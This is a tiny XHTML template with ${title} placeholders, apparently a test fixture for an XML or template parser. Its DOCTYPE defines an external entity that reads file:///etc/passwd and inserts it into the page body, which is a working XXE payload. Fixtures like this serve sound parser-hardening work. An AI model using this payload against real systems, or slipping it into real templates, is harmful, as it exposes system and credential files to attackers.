<!DOCTYPE html [<!ENTITY secrets SYSTEM "file:///etc/passwd">]>
<html xmlns="http://www.w3.org/1999/xhtml" lang="en-GB">
<head><title>${title}</title></head>
<body><h1>${title}</h1><p>&secrets;</p></body>
</html>
